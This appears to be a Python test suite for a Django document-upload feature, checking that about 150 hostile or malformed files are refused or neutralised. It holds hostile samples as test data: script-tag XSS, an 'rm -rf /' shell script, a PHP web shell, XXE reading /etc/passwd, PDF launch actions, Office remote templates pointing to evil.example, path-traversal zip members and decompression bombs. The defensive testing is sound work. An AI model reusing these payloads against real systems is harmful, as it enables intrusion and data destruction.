"""A hundred and fifty files that mean no good, or are merely broken: each is refused with a sentence or made harmless, and none breaks a page."""

import io
import zipfile

import pytest
from PIL import Image, ImageFile

from participants.files.refusals import SENTENCES
from stages.documents import content
from stages.models import Document
from tests.stages.documents import hostile as h
from tests.stages.documents.adding import at, lying_in, new, send, sent, upload
from tests.stages.journey.scenes import as_, duo

pytestmark = pytest.mark.django_db

HTML = b"<html><script>alert('PLANTED')</script></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
JPEG, PNG, WEBP, DOCX, ODT, PDF = h.picture(), h.picture("PNG"), h.picture("WEBP"), h.office(), h.open_document(), h.pdf()
WHOLE = {"jpg": JPEG, "png": PNG, "webp": WEBP, "docx": DOCX, "odt": ODT, "pdf": PDF}
PART = "word/_rels/document.xml.rels"

STRANGERS = {
    f"{what} named {name}": (body, name)
    for what, body in {
        "html": HTML,
        "svg": SVG,
        "html after a mark": b"\xef\xbb\xbf" + HTML,
        "html comment": b"<!-- %PDF-1.7 -->" + HTML,
        "script": b"#!/bin/sh\nrm -rf /\n",
        "php": b"<?php system($_GET['c']);",
        "windows program": b"MZ" + bytes(200),
        "linux program": b"\x7fELF" + bytes(200),
        "gif": b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        "gif with script": b"GIF89a/*" + HTML + b"*/=1;",
        "bmp": h.picture("BMP"),
        "tiff": h.picture("TIFF"),
        "rtf": b"{\\rtf1\\ansi planted}",
        "gzip": b"\x1f\x8b\x08" + bytes(60),
        "noise": bytes(range(256)) * 20,
        "text": "Minutes of the meeting".encode("utf-16"),
        "xml": b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
        "postscript": b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file",
    }.items()
    for name in ("photo.jpg", "plan.pdf", "letter.docx")
}
TRUNCATED = {f"{ending} cut at {cut}": (body[: int(len(body) * cut)], f"a.{ending}") for ending, body in WHOLE.items() for cut in (0.1, 0.5, 0.9)}
PASSENGERS = {
    f"{ending} followed by {what}": (body + rest, f"a.{ending}")
    for ending, body in WHOLE.items()
    for what, rest in {"html": HTML, "a zip": h.archive({"a.exe": "MZ"}), "php": b"<?php ?>"}.items()
}
PDFS = {
    "html before": HTML + PDF,
    "script as it opens": h.opens_with("/JavaScript", JS="app.alert(1)"),
    "starts a program": h.opens_with("/Launch", F="cmd.exe"),
    "imports data": h.opens_with("/ImportData", F="x"),
    "opens another inside": h.opens_with("/GoToE"),
    "script by name": h.pdf(h.javascript_by_name),
    "script in an attachment": h.pdf(h.with_attachment),
    "script on a button": h.pdf(h.on_a_button),
    "xfa": h.pdf(h.with_xfa),
    "deeply nested": h.pdf(h.nested),
    "locked": h.pdf(encryption=h.pikepdf.Encryption(owner="a", user="b")),
    "head alone": b"%PDF-1.7\n",
    "no pages": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj trailer<</Root 1 0 R>>",
    "turns round": b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj trailer<</Root 1 0 R>>",
    "noise": b"%PDF-1.7\n" + bytes(range(256)) * 40,
}
OFFICES = {
    "remote template": h.linked("attachedTemplate", "http://evil.example/t.dotm"),
    "remote template by share": h.linked("attachedTemplate", "file://\\\\evil\\t.dotm"),
    "remote picture": h.linked("image", "http://evil.example/a.png", PART),
    "remote object": h.linked("oleObject", "http://evil.example/a", PART),
    "remote frame": h.linked("frame", "http://evil.example/", "word/_rels/webSettings.xml.rels"),
    "remote part": h.linked("subDocument", "http://evil.example/", PART),
    "upper case relation": h.linked("attachedTemplate", "http://evil.example/", "WORD/_RELS/SETTINGS.XML.RELS"),
    "relation in utf-16": h.office(**{PART: ('<?xml version="1.0"?>' + h.relation("attachedTemplate", "http://e/")).encode("utf-16")}),
    "relation by prefix": h.office(
        **{PART: h.relation("image", "http://e/").replace("<Rel", "<x:Rel").replace("</Rel", "</x:Rel").replace("xmlns", "xmlns:x")}
    ),
    "macros": h.office(**{"word/vbaProject.bin": b"\xd0\xcf"}),
    "macros in capitals": h.office(**{"word/VBAPROJECT.BIN": b"\xd0\xcf"}),
    "macros by type": h.office(h.WORD, "application/vnd.ms-word.document.macroEnabled.main+xml"),
    "macros under another name": h.office(h.WORD, "application/vnd.ms-office.vbaProject"),
    "old macro sheet": h.office(h.SHEET, **{"xl/macrosheets/sheet1.xml": "<m/>"}),
    "active control": h.office(**{"word/activeX/activeX1.bin": b"x"}),
    "entities": h.office(**{PART: '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>'}),
    "broken relation": h.office(**{PART: "<Relationships><no"}),
    "a way up": h.office(**{"../../etc/cron.d/x": "planted"}),
    "an absolute way": h.office(**{"/etc/passwd": "planted"}),
    "no main part": h.archive({"[Content_Types].xml": h.types("text/plain")}),
    "two main parts": h.office(h.WORD, f"{h.OOXML}{h.SHEET}.main+xml"),
    "a template": h.archive({"[Content_Types].xml": h.types(f"{h.OOXML}wordprocessingml.template.main+xml")}),
    "bomb in one": h.office(**{"word/media/a.bin": bytes(60_000_000)}),
    "bomb in a relation": h.office(**{PART: " " * 40_000_000}),
    "bomb of members": h.office(**{f"word/{n}.xml": "" for n in range(6000)}),
    "plain archive": h.archive({"a.txt": "hello"}),
    "java archive": h.archive({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": b"\xca\xfe\xba\xbe"}),
    "empty archive": b"PK\x05\x06" + bytes(18),
    "something before": b"#!/bin/sh\n" + DOCX,
    "open document, macros": h.open_document(**{"Basic/Standard/Module1.xml": "<m/>"}),
    "open document, scripts": h.open_document(**{"Scripts/python/a.py": "import os"}),
    "open document, listener": h.open_document(content='<o xmlns:s="urn:s"><s:event-listener/></o>'),
    "open document, remote picture": h.open_document(content='<o xmlns:x="urn:x"><image x:href="http://evil.example/a.png"/></o>'),
    "open document, share": h.open_document(content='<o xmlns:x="urn:x"><section-source x:href="\\\\evil\\a.odt"/></o>'),
    "open document, locked": h.open_document(**{"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
    "open document, template": h.open_document("text-template"),
    "open document, entities": h.open_document(content='<!DOCTYPE o [<!ENTITY a "x">]><o>&a;</o>'),
    "old office": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
}
PICTURES = {
    "50,000 points square": h.wide_png(50_000, 50_000),
    "8,000 points square": h.wide_png(8_000, 8_000),
    "50,000 points long": h.wide_png(50_000, 2),
    "no points": h.wide_png(0, 0),
    "jpeg head alone": b"\xff\xd8\xff\xe0",
    "png head alone": b"\x89PNG\r\n\x1a\n",
    "webp head alone": b"RIFF\xff\xff\xff\xffWEBP",
    "telephone's own": b"\x00\x00\x00\x18ftypheic" + bytes(100),
    "svg after a png head": b"\x89PNG\r\n\x1a\n" + SVG,
    "html after a jpeg head": b"\xff\xd8\xff" + HTML,
}
EMPTY = {f"empty {ending}": (b"", f"a.{ending}") for ending in WHOLE}
ALL = {
    **STRANGERS,
    **TRUNCATED,
    **PASSENGERS,
    **{f"pdf: {what}": (body, "a.pdf") for what, body in PDFS.items()},
    **{f"office: {what}": (body, "a.docx") for what, body in OFFICES.items()},
    **{f"picture: {what}": (body, "a.png") for what, body in PICTURES.items()},
    **EMPTY,
}
MADE_HARMLESS = {f"{ending} followed by {what}" for ending in ("jpg", "png", "webp") for what in ("html", "a zip", "php")}
# What stands behind the end of a PDF is read by nobody; it is handed out as a download alone.
LET_BE = {"pdf followed by html", "pdf followed by php"}


def test_there_are_enough_of_them():
    assert len(ALL) >= 150


@pytest.mark.parametrize("what", ALL)
def test_it_is_refused_with_a_sentence_or_made_harmless(what, media):
    scene = duo()
    body, name = ALL[what]
    response = send(as_(scene.mentor), new(scene.partnership), upload(body, name))
    if response.status_code == 302:
        assert what in MADE_HARMLESS | LET_BE or "cut at" in what, what
        _is_harmless(scene, what)
        return
    assert what not in MADE_HARMLESS
    errors = " ".join(response.context["form"].errors["files"])
    assert (response.status_code, any(str(sentence) in errors for sentence in SENTENCES.values())) == (200, True), errors
    assert (Document.objects.count(), lying_in(media)) == (0, [])
    assert b"PLANTED')" not in response.content


def test_a_picture_cut_off_is_refused_also_where_reports_are_laid_out(media, monkeypatch):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    scene = duo()
    response = send(as_(scene.mentor), new(scene.partnership), upload(PICTURES["50,000 points long"], "a.png"))
    assert (response.status_code, Document.objects.count(), ImageFile.LOAD_TRUNCATED_IMAGES) == (200, 0, True)


def _is_harmless(scene, what):
    document = Document.objects.get()
    response = as_(scene.mentor).get(at("document-file", document))
    whole = sent(response)
    if document.is_picture:
        assert (b"<script" in whole, b"<?php" in whole, zipfile.is_zipfile(io.BytesIO(whole))) == (False, False, False)
        assert Image.open(io.BytesIO(whole)).size == (60, 40)
    else:
        assert response["Content-Disposition"].startswith("attachment")
    assert (response["X-Content-Type-Options"], "sandbox" in response["Content-Security-Policy"]) == ("nosniff", True)


@pytest.mark.parametrize("ending", WHOLE)
@pytest.mark.parametrize("name", ["x.html", "x.svg", "x.exe", "x", "x.jpg.php"])
def test_the_name_says_nothing_about_the_content(ending, name):
    scene = duo()
    send(as_(scene.mentor), new(scene.partnership), upload(WHOLE[ending], name, "text/html"))
    document = Document.objects.get()
    response = as_(scene.mentor).get(at("document-file", document))
    assert (document.kind, document.file.name.endswith(f".{ending}"), "html" in response["Content-Type"]) == (ending, True, False)
    assert f'.{ending}"' in response["Content-Disposition"]


@pytest.mark.parametrize(("reason", "what"), [("fetches", "remote template"), ("macros", "macros"), ("unpacks too large", "bomb in one")])
def test_the_sentence_fits_the_reason(reason, what):
    scene = duo()
    response = send(as_(scene.mentor), new(scene.partnership), upload(OFFICES[what], "a.docx"))
    assert str(SENTENCES[reason]) in response.context["form"].errors["files"][0]


def test_links_that_a_reader_follows_are_no_fault():
    scene = duo()
    files = [
        upload(h.linked("hyperlink", "https://example.org", PART), "a.docx"),
        upload(h.open_document(content='<o xmlns:x="urn:x"><a x:href="https://example.org"/></o>'), "a.odt"),
        upload(h.opens_with("/URI", URI="https://example.org"), "a.pdf"),
    ]
    send(as_(scene.mentor), new(scene.partnership), *files)
    assert sorted(Document.objects.values_list("kind", flat=True)) == ["docx", "odt", "pdf"]


def test_a_photo_forgets_where_it_was_taken_and_stands_upright():
    scene = duo()
    assert b"PLANTED-CAMERA" in h.located()
    send(as_(scene.mentor), new(scene.partnership), upload(h.located()))
    document = Document.objects.get()
    for name in ("document-file", "document-thumbnail"):
        whole = sent(as_(scene.mentor).get(at(name, document)))
        image = Image.open(io.BytesIO(whole))
        assert (b"PLANTED" in whole, dict(image.getexif()), image.size) == (False, {}, (40, 60))


def test_a_large_photo_becomes_as_small_as_a_page_needs():
    scene = duo()
    send(as_(scene.mentor), new(scene.partnership), upload(h.picture(size=(6000, 4000))))
    document = Document.objects.get()
    sizes = [Image.open(io.BytesIO(sent(as_(scene.mentor).get(at(name, document))))).size for name in ("document-file", "document-thumbnail")]
    assert [max(size) for size in sizes] == [2400, 480]


@pytest.mark.parametrize(
    ("kind", "mode"), [("PNG", "RGBA"), ("PNG", "P"), ("PNG", "1"), ("PNG", "LA"), ("JPEG", "CMYK"), ("JPEG", "L"), ("WEBP", "RGBA")]
)
def test_pictures_of_every_make_are_taken(kind, mode):
    scene = duo()
    image = Image.new("RGB", (50, 30), "teal").convert(mode)
    target = io.BytesIO()
    image.save(target, kind)
    assert send(as_(scene.mentor), new(scene.partnership), upload(target.getvalue())).status_code == 302


@pytest.mark.parametrize(("body", "reason"), [(b"\xff\xd8\xff", "picture too large"), (b"%PDF-1.7", "file too large")])
def test_too_large_is_too_large(body, reason, monkeypatch):
    monkeypatch.setattr(content, "LARGEST_PICTURE", 2000)
    monkeypatch.setattr(content, "LARGEST_FILE", 4000)
    scene = duo()
    response = send(as_(scene.mentor), new(scene.partnership), upload(body + bytes(3000 if "picture" in reason else 5000)))
    assert str(SENTENCES[reason]) in response.context["form"].errors["files"][0]


def test_a_pdf_that_kills_its_reader_is_refused(monkeypatch, tmp_path):
    killed = tmp_path / "killed.py"
    killed.write_text("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
    monkeypatch.setattr(content, "CHECK", killed)
    scene = duo()
    response = send(as_(scene.mentor), new(scene.partnership), upload(PDF, "a.pdf"))
    assert str(SENTENCES["unchecked"]) in response.context["form"].errors["files"][0]


def test_a_pdf_that_takes_for_ever_is_refused(monkeypatch, tmp_path):
    endless = tmp_path / "endless.py"
    endless.write_text("import time\ntime.sleep(60)")
    monkeypatch.setattr(content, "CHECK", endless)
    monkeypatch.setattr(content, "PATIENCE", 0.3)
    scene = duo()
    response = send(as_(scene.mentor), new(scene.partnership), upload(PDF, "a.pdf"))
    assert str(SENTENCES["unchecked"]) in response.context["form"].errors["files"][0]
